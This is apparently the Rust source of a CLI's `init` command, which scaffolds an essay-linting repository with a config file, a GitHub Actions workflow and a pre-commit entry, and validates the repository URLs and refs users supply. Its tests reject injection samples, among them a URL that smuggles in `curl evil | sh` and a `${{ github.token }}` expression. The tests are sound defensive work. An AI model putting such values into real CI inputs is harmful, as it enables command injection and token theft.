//! `itsm init [DIR]`: scaffold a study repo — a commented `itsm.yaml`, an example essay that
//! lints clean, a GitHub Actions workflow that runs itsm through this repository's action
//! (`action.yml`: the release binary for the runner, or a cached `cargo install`), and a
//! pre-commit entry.
//!
//! Where itsm comes from is a GitHub repository and a ref: by default the crate's `repository`
//! (Cargo.toml) and the tag of this version (`v` + the crate version, the tag the release workflow
//! builds binaries for), so the workflow runs the same itsm that wrote it. Both can be overridden
//! (`--itsm-git`, `--itsm-ref`) and are validated before they reach a YAML file: only the
//! characters GitHub allows in those names, so no value can add a line or a key to the workflow.
//!
//! All or nothing: every target is checked before the first write (a parent that is a file or a
//! symbolic link, a target that is not a regular file, an existing file without `--force`), and a
//! write that fails part way removes what this run created and restores what it replaced.

use super::{Exit, Failure, print_out, write_file};
use crate::fsio::{self, Expect};
use std::io::ErrorKind;
use std::path::{Component, Path, PathBuf};

const CONFIG: &str = include_str!("../../templates/init/itsm.yaml");
const ESSAY: &str = include_str!("../../templates/init/essay.md");
const WORKFLOW: &str = include_str!("../../templates/init/workflow.yml");
const PRE_COMMIT: &str = include_str!("../../templates/init/pre-commit-config.yaml");

/// The example essay `init` writes (public so tests can check that it lints clean).
pub const EXAMPLE_ESSAY: &str = ESSAY;

/// The project's home (Cargo.toml `repository`): where the action and the release binaries live.
pub const DEFAULT_REPOSITORY: &str = env!("CARGO_PKG_REPOSITORY");

/// The release tag of this build (`v0.1.0`): the ref the generated workflow uses by default.
pub fn default_ref() -> String {
    format!("v{}", env!("CARGO_PKG_VERSION"))
}

#[derive(Debug, clap::Args)]
pub struct InitArgs {
    /// 作成先のフォルダ（既定はカレントフォルダ。無ければ作る）
    pub dir: Option<PathBuf>,
    /// 既存のファイルを上書きする
    #[arg(long)]
    pub force: bool,
    /// itsm score の合格ライン（0〜100）。itsm.yaml の min-score と、CI の採点の手順の --min-score に書く
    #[arg(long, value_name = "N", value_parser = clap::value_parser!(u32).range(0..=100))]
    pub min_score: Option<u32>,
    #[arg(
        long,
        value_name = "URL",
        help = "itsm のリポジトリ（https://github.com/OWNER/REPO）。CI のアクションと pre-commit の取得元"
    )]
    pub itsm_git: Option<String>,
    /// CI と pre-commit が使う itsm の版（タグ・ブランチ・コミット。既定はこの itsm の版のタグ）
    #[arg(long, value_name = "REF")]
    pub itsm_ref: Option<String>,
}

/// Where the generated files get itsm from: a GitHub repository and a git ref, both validated.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Source {
    /// The repository URL as given (`https://github.com/OWNER/REPO`, optionally `.git`).
    pub url: String,
    /// `OWNER/REPO`, for the workflow's `uses:`.
    pub repo: String,
    /// A tag, branch or commit.
    pub git_ref: String,
}

impl Source {
    /// Validate a repository URL and a ref. Only `https://github.com/OWNER/REPO[.git][/]` is
    /// accepted (GitHub Actions resolves `uses: OWNER/REPO@REF` on GitHub), and refs are limited
    /// to the characters of git's ref names that need no quoting in YAML or a shell.
    pub fn new(url: &str, git_ref: &str) -> Result<Source, String> {
        let repo = github_repo(url).ok_or_else(|| {
            format!(
                "--itsm-git `{}` は使えません。https://github.com/OWNER/REPO の形で指定してください（GitHub Actions のアクションは GitHub のリポジトリから取得します）",
                shown(url)
            )
        })?;
        if !valid_ref(git_ref) {
            return Err(format!(
                "--itsm-ref `{}` は使えません。タグ・ブランチ・コミットの名前（英数字と . _ - /）で指定してください",
                shown(git_ref)
            ));
        }
        Ok(Source {
            url: url.to_owned(),
            repo,
            git_ref: git_ref.to_owned(),
        })
    }

    /// The project's own repository at the tag of this version.
    pub fn default_source() -> Source {
        Source::new(DEFAULT_REPOSITORY, &default_ref())
            .expect("Cargo.toml's repository is a GitHub URL and the version a valid tag")
    }

    /// `OWNER/REPO@REF` for the workflow's `uses:`.
    pub fn action(&self) -> String {
        format!("{}@{}", self.repo, self.git_ref)
    }

    /// The `cargo install --git` flag that selects this ref (the action's fallback does the same).
    pub fn cargo_ref(&self) -> String {
        cargo_ref_flag(&self.git_ref)
    }
}

/// `--rev` for a full commit id, `--tag` for a version tag (`v1.2.3`, `v1`), `--branch` otherwise.
pub fn cargo_ref_flag(git_ref: &str) -> String {
    let is_commit = git_ref.len() == 40 && git_ref.bytes().all(|b| b.is_ascii_hexdigit());
    // `v1.2.3`, and the moving major tags actions are used at (`v1`).
    let is_version_tag = git_ref
        .strip_prefix('v')
        .is_some_and(|v| v.starts_with(|c: char| c.is_ascii_digit()));
    let flag = if is_commit {
        "--rev"
    } else if is_version_tag {
        "--tag"
    } else {
        "--branch"
    };
    format!("{flag} {git_ref}")
}

/// `OWNER/REPO` of a GitHub repository URL, if it is one.
fn github_repo(url: &str) -> Option<String> {
    let rest = url.strip_prefix("https://github.com/")?;
    let rest = rest.strip_suffix('/').unwrap_or(rest);
    let rest = rest.strip_suffix(".git").unwrap_or(rest);
    let (owner, name) = rest.split_once('/')?;
    let owner_ok = (1..=39).contains(&owner.len())
        && owner
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-')
        && !owner.starts_with('-')
        && !owner.ends_with('-');
    let name_ok = (1..=100).contains(&name.len())
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'))
        && name != "."
        && name != "..";
    (owner_ok && name_ok).then(|| format!("{owner}/{name}"))
}

/// A git ref name made only of characters that are plain in YAML and in a shell word.
fn valid_ref(r: &str) -> bool {
    (1..=255).contains(&r.len())
        && r.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b'/'))
        && !r.starts_with(['-', '/', '.'])
        && !r.ends_with(['/', '.'])
        && !r.ends_with(".lock")
        && !r.contains("..")
        && !r.contains("//")
        && !r.contains("/.")
}

/// A value quoted in an error: control characters shown as `\u{…}`, at most 80 characters.
fn shown(s: &str) -> String {
    let mut out: String = s.chars().take(80).flat_map(char::escape_debug).collect();
    if s.chars().count() > 80 {
        out.push('…');
    }
    out
}

/// The files to write: relative path and contents.
pub fn files(min_score: Option<u32>, source: &Source) -> Vec<(&'static str, String)> {
    let score_config = match min_score {
        Some(n) => format!("\n# itsm score の合格ライン（0〜100）。\nmin-score: {n}\n"),
        None => "\n# itsm score の合格ライン（0〜100）。設定すると、この点数未満の論文で itsm score が終了コード 1 になる。\n# min-score: 60\n".to_owned(),
    };
    let score_step = match min_score {
        Some(n) => format!(
            "      - name: 採点（合格ライン {n} 点未満なら失敗）\n        if: ${{{{ !cancelled() && steps.itsm.outcome == 'success' }}}}\n        run: itsm score --format github --min-score {n} essays/\n"
        ),
        None => "      # 採点の結果を注釈にする（点数では失敗しない）。合格ラインで失敗させるには --min-score N を足す\n      # （itsm init --min-score N で作ると、ここと itsm.yaml の min-score に書く）。\n      - name: 採点（注釈のみ）\n        if: ${{ !cancelled() && steps.itsm.outcome == 'success' }}\n        run: itsm score --format github essays/\n".to_owned(),
    };
    let fill = |t: &str| {
        t.replace("{{ACTION}}", &source.action())
            .replace("{{ITSM_GIT}}", &source.url)
            .replace("{{ITSM_REF}}", &source.git_ref)
            .replace("{{CARGO_REF}}", &source.cargo_ref())
            .replace("{{MIN_SCORE}}\n", &score_config)
            .replace("{{SCORE_STEP}}\n", &score_step)
    };
    vec![
        ("itsm.yaml", fill(CONFIG)),
        ("essays/example.md", ESSAY.to_owned()),
        (".github/workflows/itsm.yml", fill(WORKFLOW)),
        (".pre-commit-config.yaml", fill(PRE_COMMIT)),
    ]
}

pub(crate) fn run(a: InitArgs) -> Result<Exit, Failure> {
    let dir = a.dir.clone().unwrap_or_else(|| PathBuf::from("."));
    let default = Source::default_source();
    let source = Source::new(
        a.itsm_git.as_deref().unwrap_or(&default.url),
        a.itsm_ref.as_deref().unwrap_or(&default.git_ref),
    )
    .map_err(Failure::Usage)?;
    let plan = files(a.min_score, &source);
    let targets = check_targets(&dir, &plan, a.force)?;
    write_all(&targets)?;
    let mut out = String::new();
    for t in &targets {
        out.push_str(&format!("作成: {}\n", t.path.display()));
    }
    out.push_str(&next_steps(&dir));
    print_out(&out)?;
    Ok(Exit::Clean)
}

/// One file to write, after the checks.
struct Target<'a> {
    path: PathBuf,
    text: &'a str,
    /// Folders to create first, outermost first.
    new_dirs: Vec<PathBuf>,
    /// Whether a regular file is there now (replaced only with `--force`).
    exists: bool,
}

/// Check every target before anything is written: the folder itself, each folder on the way
/// (must be a real folder or absent), and each file (absent, or a regular file with `--force`).
fn check_targets<'a>(
    dir: &Path,
    plan: &'a [(&'static str, String)],
    force: bool,
) -> Result<Vec<Target<'a>>, Failure> {
    let nothing = "何も書き込んでいません";
    match std::fs::metadata(dir) {
        Ok(m) if !m.is_dir() => {
            return Err(Failure::Io(format!(
                "{} はフォルダではありません。{nothing}",
                dir.display()
            )));
        }
        Err(e) if e.kind() != ErrorKind::NotFound => {
            return Err(Failure::Io(format!(
                "{} を確かめられません: {e}。{nothing}",
                dir.display()
            )));
        }
        _ => {}
    }
    let mut targets = Vec::new();
    let mut existing = Vec::new();
    let mut planned_dirs: Vec<PathBuf> = Vec::new();
    // The folder itself may be missing too (created with its parents).
    let mut base_missing = Vec::new();
    let mut p = dir.to_path_buf();
    while !p.as_os_str().is_empty() {
        match std::fs::symlink_metadata(&p) {
            Ok(_) => break,
            Err(e) if e.kind() == ErrorKind::NotFound => base_missing.push(p.clone()),
            Err(e) => {
                return Err(Failure::Io(format!(
                    "{} を作れません: {e}。{nothing}",
                    p.display()
                )));
            }
        }
        match p.parent() {
            Some(q) => p = q.to_path_buf(),
            None => break,
        }
    }
    base_missing.reverse();
    for (rel, text) in plan {
        let path = dir.join(rel);
        let mut new_dirs = Vec::new();
        for d in base_missing.iter().cloned() {
            if !planned_dirs.contains(&d) {
                planned_dirs.push(d.clone());
                new_dirs.push(d);
            }
        }
        let mut here = dir.to_path_buf();
        let parts: Vec<Component> = Path::new(rel).components().collect();
        for c in &parts[..parts.len() - 1] {
            here.push(c);
            match std::fs::symlink_metadata(&here) {
                Ok(m) if m.file_type().is_symlink() => {
                    return Err(Failure::Io(format!(
                        "{} はシンボリックリンクです。リンクの先には書き込みません。{nothing}",
                        here.display()
                    )));
                }
                Ok(m) if !m.is_dir() => {
                    return Err(Failure::Io(format!(
                        "{} がフォルダではなくファイルとして存在するため、{} を作れません。{nothing}",
                        here.display(),
                        path.display()
                    )));
                }
                Ok(_) => {}
                Err(e) if e.kind() == ErrorKind::NotFound => {
                    if !planned_dirs.contains(&here) {
                        planned_dirs.push(here.clone());
                        new_dirs.push(here.clone());
                    }
                }
                Err(e) => {
                    return Err(Failure::Io(format!(
                        "{} を確かめられません: {e}。{nothing}",
                        here.display()
                    )));
                }
            }
        }
        let exists = match std::fs::symlink_metadata(&path) {
            Ok(m) if m.file_type().is_file() => true,
            Ok(_) => {
                return Err(Failure::Io(format!(
                    "{} は通常のファイルではない（フォルダ・リンクなど）ため、置き換えません。{nothing}",
                    path.display()
                )));
            }
            Err(e) if e.kind() == ErrorKind::NotFound => false,
            Err(e) => {
                return Err(Failure::Io(format!(
                    "{} を確かめられません: {e}。{nothing}",
                    path.display()
                )));
            }
        };
        if exists {
            existing.push(path.display().to_string());
        }
        targets.push(Target {
            path,
            text,
            new_dirs,
            exists,
        });
    }
    if !existing.is_empty() && !force {
        return Err(Failure::Io(format!(
            "既に存在するファイルがあります: {}。{nothing}。上書きするには --force を付けてください",
            existing.join(", ")
        )));
    }
    Ok(targets)
}

/// Write every target; on the first failure undo this run's changes (remove the files and
/// folders it created, put back the contents it replaced) and report the failure.
fn write_all(targets: &[Target]) -> Result<(), Failure> {
    let mut made_dirs: Vec<&Path> = Vec::new();
    let mut made_files: Vec<&Path> = Vec::new();
    // (file, what it held, the fingerprint of what this run wrote there).
    let mut replaced: Vec<(&Path, Vec<u8>, fsio::Fingerprint)> = Vec::new();
    let mut step = || -> Result<(), Failure> {
        for t in targets {
            for d in &t.new_dirs {
                std::fs::create_dir(d)
                    .map_err(|e| Failure::Io(format!("{} を作成できません: {e}", d.display())))?;
                made_dirs.push(d);
            }
            if t.exists {
                let old = fsio::read(&t.path, fsio::limits::INPUT).map_err(|e| {
                    Failure::Io(format!("{} を読み込めません: {e}", t.path.display()))
                })?;
                let w = write_file(
                    &t.path,
                    t.text.as_bytes(),
                    Expect::Unchanged(old.fingerprint),
                )?;
                replaced.push((&t.path, old.bytes, w.fingerprint));
            } else {
                write_file(&t.path, t.text.as_bytes(), Expect::New)?;
                made_files.push(&t.path);
            }
        }
        Ok(())
    };
    let result = step();
    if let Err(e) = result {
        for f in &made_files {
            let _ = std::fs::remove_file(f);
        }
        for (f, old, ours) in &replaced {
            // Only what this run wrote is put back (an edit made since is left alone).
            let _ = write_file(f, old, Expect::Unchanged(*ours));
        }
        for d in made_dirs.iter().rev() {
            let _ = std::fs::remove_dir(d);
        }
        return Err(match e {
            Failure::Io(m) => Failure::Io(format!("{m}。この実行で書いたファイルは元に戻しました")),
            other => other,
        });
    }
    Ok(())
}

/// What to do next, as commands that work from where the user is: `cd` into the new folder
/// (unless it is the current one), `git init` unless the folder is already in a git work tree.
fn next_steps(dir: &Path) -> String {
    let mut s = String::from("\n次の手順:\n");
    let here = dir == Path::new(".") || dir.as_os_str().is_empty();
    if !here {
        s.push_str(&format!("  cd {}\n", shell_word(&dir.to_string_lossy())));
    }
    s.push_str("  itsm lint essays/      例の論文を検査する（指摘ゼロ）\n");
    s.push_str("  itsm score essays/     例の論文の推定点と、点を上げる修正\n");
    let git = if in_git_work_tree(dir) {
        "  git add . && git commit -m \"itsm init\"\n"
    } else {
        "  git init && git add . && git commit -m \"itsm init\"\n"
    };
    s.push_str(git);
    s.push_str("  GitHub にリポジトリを作って push すると、GitHub Actions（.github/workflows/itsm.yml）が\n  論述を検査・採点し、指摘を差分の注釈として表示します。\n");
    s
}

/// Whether `dir` is inside a git work tree (a `.git` folder or file in it or above it).
fn in_git_work_tree(dir: &Path) -> bool {
    let Ok(abs) = std::fs::canonicalize(dir) else {
        return false;
    };
    abs.ancestors().any(|a| a.join(".git").exists())
}

/// A path as one shell word: bare when it has only unremarkable characters, else single-quoted.
fn shell_word(s: &str) -> String {
    let plain = !s.is_empty()
        && s.chars().all(|c| {
            (c.is_alphanumeric() && !c.is_control()) || matches!(c, '.' | '_' | '-' | '/' | '+')
        })
        && !s.starts_with('-');
    if plain {
        s.to_owned()
    } else {
        format!("'{}'", s.replace('\'', "'\\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_default_source_is_the_crate_repository_at_this_version() {
        let s = Source::default_source();
        assert_eq!(s.repo, "itsm-dev/itsm");
        assert_eq!(
            s.action(),
            format!("itsm-dev/itsm@v{}", env!("CARGO_PKG_VERSION"))
        );
        assert_eq!(
            s.cargo_ref(),
            format!("--tag v{}", env!("CARGO_PKG_VERSION"))
        );
    }

    #[test]
    fn repository_urls_are_github_only_and_plain() {
        for ok in [
            "https://github.com/a/b",
            "https://github.com/a-b/c.d_e",
            "https://github.com/a/b.git",
            "https://github.com/a/b/",
        ] {
            assert!(Source::new(ok, "v1.0.0").is_ok(), "{ok}");
        }
        for bad in [
            "https://example.invalid/itsm.git",
            "http://github.com/a/b",
            "https://github.com/a",
            "https://github.com/a/b/c",
            "https://github.com/a/b\n    - run: curl evil | sh",
            "https://github.com/a/b#x",
            "https://github.com/-a/b",
            "https://github.com/a/..",
            "https://github.com/a/b c",
            "https://github.com/a/b'",
            "https://github.com/a/${{ github.token }}",
        ] {
            assert!(Source::new(bad, "v1.0.0").is_err(), "{bad:?}");
        }
    }

    #[test]
    fn refs_are_plain_git_names() {
        for ok in ["v0.1.0", "main", "release/1.x", &"a".repeat(40)] {
            assert!(valid_ref(ok), "{ok}");
        }
        for bad in [
            "", "-x", "/x", "x/", "a..b", "a//b", "x.lock", "v1\n", "v1 #", "v1:x", "${{ x }}",
            "a'b", ".hidden", "a/.b",
        ] {
            assert!(!valid_ref(bad), "{bad:?}");
        }
    }

    #[test]
    fn cargo_selects_tags_commits_and_branches() {
        assert_eq!(cargo_ref_flag("v0.1.0"), "--tag v0.1.0");
        assert_eq!(cargo_ref_flag("v1.2"), "--tag v1.2");
        let sha = "0123456789abcdef0123456789abcdef01234567";
        assert_eq!(cargo_ref_flag(sha), format!("--rev {sha}"));
        assert_eq!(cargo_ref_flag("main"), "--branch main");
        assert_eq!(cargo_ref_flag("v1"), "--tag v1");
        assert_eq!(cargo_ref_flag("vnext.1"), "--branch vnext.1");
    }

    #[test]
    fn shell_words_quote_only_when_needed() {
        assert_eq!(shell_word("my-essays"), "my-essays");
        assert_eq!(shell_word("論文/2026"), "論文/2026");
        assert_eq!(shell_word("my essays"), "'my essays'");
        assert_eq!(shell_word("it's"), "'it'\\''s'");
        assert_eq!(shell_word("-x"), "'-x'");
        assert_eq!(shell_word("a;b"), "'a;b'");
    }
}
